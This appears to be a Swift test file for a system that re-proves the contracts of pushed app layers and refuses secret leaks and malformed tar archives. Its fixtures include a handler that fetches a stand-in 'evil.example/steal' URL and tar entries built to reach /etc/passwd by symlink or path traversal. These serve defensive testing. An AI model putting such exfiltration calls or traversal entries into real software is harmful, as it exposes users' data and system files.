import Archive
import ContentStore
import Contracts
import Digests
import Encodings
import HandlerProver
import OCIImage
import Testing

@testable import ImageProof

/// What is made of an app layer that somebody pushed.
struct ProofTaskTests {
  static let source = """
    import { env } from "zigttp:env";
    export function handler(req: Request): Response {
      return Response.json({ greeting: env("GREETING") ?? "hello" });
    }

    """
  static let evil = """
    import { fetch } from "zigttp:fetch";
    export function handler(req: Request): Response {
      return fetch("https://evil.example/steal");
    }

    """
  private static let created: UInt64 = 1_700_000_000
  private static let runtime = RuntimeLayer(
    diffID: .sha256(of: "tar"),
    descriptor: Descriptor(
      mediaType: MediaType.gzipLayer, digest: .sha256(of: "gzip"), size: 4))

  static func proven(_ source: String) throws -> Contract {
    try Reproof(
      of: ["handler.ts": Array(source.utf8)], claimed: Contract(handlerPath: "handler.ts")
    ).contract
  }

  private static func task(_ contract: Contract, _ app: [UInt8]) -> ProofTask {
    ProofTask(
      contract: contract, created: created, runtime: runtime,
      platform: Descriptor.Platform(architecture: "amd64"), app: app)
  }

  private static func app(
    _ source: String, _ contract: Contract, _ more: [AppLayer.File] = []
  ) throws -> AppLayer {
    try AppLayer(
      sources: [AppLayer.File(path: "handler.ts", bytes: Array(source.utf8))] + more,
      contract: contract.canonicalBytes, modified: created)
  }

  private static func image(_ app: AppLayer, _ contract: Contract) -> Digest {
    ImagePlan(
      app: app, facts: contract.facts, runtime: runtime,
      platform: Descriptor.Platform(architecture: "amd64"), created: created
    ).descriptor.digest
  }

  private static func packed(_ result: ProofResult) -> ProofResult.Packed? {
    if case .packed(let packed) = result { return packed }
    return nil
  }

  @Test func whatWasPackedHonestlyComesOutAgain() throws {
    let contract = try Self.proven(Self.source)
    let app = try Self.app(Self.source, contract)
    let packed = try #require(Self.packed(Self.task(contract, app.tar).result()))
    #expect(packed.contract == contract)
    #expect(packed.image == Self.image(app, contract))
    #expect(packed.prover == Prover.version)
    let tar = try DeployRecord.sourcesTar(
      [AppLayer.File(path: "handler.ts", bytes: Array(Self.source.utf8))], modified: Self.created)
    #expect(packed.sources == .sha256(of: tar))
  }

  /// The layer's own contract is not read.
  @Test func aContractThatLiesIsFoundByItsSources() throws {
    let harmless = try Self.proven(Self.source)
    let app = try Self.app(Self.evil, harmless)
    let packed = try #require(Self.packed(Self.task(harmless, app.tar).result()))
    #expect(packed.contract.sha256 != harmless.sha256)
    #expect(packed.contract.egress.hosts == ["evil.example"])
    #expect(packed.image != Self.image(app, harmless))
  }

  /// Which names are secret, and which leaks are allowed, somebody has approved: it is not proven.
  @Test func whatWasToldIsTakenFromTheApprovedContract() throws {
    var claimed = Contract(handlerPath: "handler.ts")
    claimed.env.literal = ["GREETING"]
    claimed.env.secret = ["GREETING"]
    claimed.allowedLeaks = ["no-secret-leakage:GREETING->response"]
    let contract = try Reproof(
      of: ["handler.ts": Array(Self.source.utf8)], claimed: claimed
    ).contract
    #expect(contract.env.secret == ["GREETING"])
    #expect(contract.allowedLeaks == claimed.allowedLeaks)
    let app = try Self.app(Self.source, contract)
    let packed = try #require(Self.packed(Self.task(contract, app.tar).result()))
    #expect(packed.image == Self.image(app, contract))
  }

  /// A client that skips the gate meets it here.
  @Test(arguments: [
    [], ["no-secret-leakage:GREETING->log"], ["no-credential-leakage"],
    ["no-secret-leakage:OTHER->response"],
  ])
  func aLeakThatNobodyAllowedIsRefused(_ allowed: [String]) throws {
    var claimed = Contract(handlerPath: "handler.ts")
    claimed.env.literal = ["GREETING"]
    claimed.env.secret = ["GREETING"]
    claimed.allowedLeaks = allowed
    let contract = try Reproof(
      of: ["handler.ts": Array(Self.source.utf8)], claimed: claimed
    ).contract
    let app = try Self.app(Self.source, contract)
    guard case .refused(let reason) = Self.task(contract, app.tar).result() else {
      Issue.record("it was packed")
      return
    }
    #expect(reason.contains("no-secret-leakage:GREETING->response"))
  }

  /// What another compiler said has to cover what the code does here, too.
  @Test func whatAGivenContractLacksIsRefused() throws {
    for (env, lacks) in [("GREETING", false), ("OTHER", true)] {
      var claimed = Contract(handlerPath: "handler.ts")
      claimed.imported = try ImportedContract(
        document: ["version": 12, "env": ["literal": [.string(env)]]])
      let contract = try Reproof(
        of: ["handler.ts": Array(Self.source.utf8)], claimed: claimed
      ).contract
      #expect(contract.imported == claimed.imported)
      let app = try Self.app(Self.source, contract)
      let result = Self.task(contract, app.tar).result()
      if case .refused(let reason) = result {
        #expect(lacks && reason.hasSuffix("lacks what the code does: env GREETING"), "\(reason)")
      } else {
        #expect(!lacks && Self.packed(result)?.image == Self.image(app, contract))
      }
    }
  }

  /// What nothing imports is not packed again, so the image is another one.
  @Test func aFileThatNothingImportsMakesAnotherImage() throws {
    let contract = try Self.proven(Self.source)
    let more = [AppLayer.File(path: "more.ts", bytes: Array("export const a = 1;".utf8))]
    let app = try Self.app(Self.source, contract, more)
    let packed = try #require(Self.packed(Self.task(contract, app.tar).result()))
    #expect(packed.contract == contract)
    #expect(packed.image != Self.image(app, contract))
  }

  @Test func whatIsNoAppIsRefused() throws {
    let contract = try Self.proven(Self.source)
    let honest = try Self.app(Self.source, contract).tar
    func with(_ header: [UInt8], _ body: [UInt8] = []) -> [UInt8] {
      let padding = [UInt8](repeating: 0, count: (512 - body.count % 512) % 512)
      return header + body + padding + honest
    }
    let cases: [(what: String, tar: [UInt8], reason: String)] = [
      ("a link", with(Self.header("app/x", kind: "2", target: "/etc/passwd")), "symbolic link"),
      ("a hard link", with(Self.header("app/x", kind: "1", target: "app/app.json")), "hard link"),
      ("a device", with(Self.header("app/x", kind: "3")), "character device"),
      ("a fifo", with(Self.header("app/x", kind: "6")), "fifo"),
      ("a whiteout", with(Self.header("app/.wh.app.json")), "which takes a file away"),
      ("all taken away", with(Self.header("app/.wh..wh..opq")), "which takes a file away"),
      ("outside", with(Self.header("etc/passwd")), "outside of app/"),
      ("a way out", with(Self.header("app/../etc/passwd")), "etc/passwd"),
      ("twice", with(Self.header("app/app.json")), "app/app.json twice"),
      ("not named", with(Self.header("app/source/x.ts")), "does not name"),
      ("cut off", Array(honest.prefix(700)), "the archive ends"),
      ("nothing", [], "the archive ends"),
      ("no tar", Array("no tar".utf8), "the archive ends"),
    ]
    for (what, tar, reason) in cases {
      guard case .refused(let why) = Self.task(contract, tar).result() else {
        Issue.record("\(what) was taken")
        continue
      }
      #expect(why.contains(reason), "\(what): \(why)")
    }
  }

  @Test func sourcesThatAreNoProgramAreRefused() throws {
    let contract = try Self.proven(Self.source)
    let app = try Self.app("export const handler = 1 +;", contract)
    guard case .refused(let why) = Self.task(contract, app.tar).result() else {
      Issue.record("taken")
      return
    }
    #expect(why.contains("the sources are refused: handler.ts:1"), "\(why)")
  }

  @Test func bothGoOverAPipeAndBack() throws {
    let contract = try Self.proven(Self.source)
    let app = try Self.app(Self.source, contract)
    let task = Self.task(contract, app.tar)
    let copy = try ProofTask(task.bytes)
    #expect(copy.contract == contract && copy.app == app.tar && copy.created == Self.created)
    #expect(copy.runtime == Self.runtime && copy.platform == task.platform)
    for result in [task.result(), .refused("a\n\"b\""), .failed("c")] {
      #expect(try ProofResult(result.bytes) == result)
    }
    for bytes in ["", "{}", "{}\n", "[]", #"{"contract":{}}"#] {
      #expect(throws: (any Error).self) { try ProofTask(Array(bytes.utf8)) }
      #expect(throws: (any Error).self) { try ProofResult(Array(bytes.utf8)) }
    }
  }

  /// A header of ustar, of a kind that no writer of ours makes.
  private static func header(
    _ name: String, kind: Character = "0", target: String = ""
  ) -> [UInt8] {
    var block = [UInt8](repeating: 0, count: 512)
    func put(_ text: String, at place: Int) {
      for (index, unit) in text.utf8.enumerated() { block[place + index] = unit }
    }
    put(name, at: 0)
    put("0000644\0", at: 100)
    put("0000000\0", at: 108)
    put("0000000\0", at: 116)
    put("00000000000\0", at: 124)
    put("00000000000\0", at: 136)
    put("        ", at: 148)
    put(String(kind), at: 156)
    put(target, at: 157)
    put("ustar\0", at: 257)
    put("00", at: 263)
    let sum = block.reduce(0) { $0 + Int($1) }
    let digits = String(sum, radix: 8)
    put(String(repeating: "0", count: 6 - digits.count) + digits + "\0 ", at: 148)
    return block
  }
}
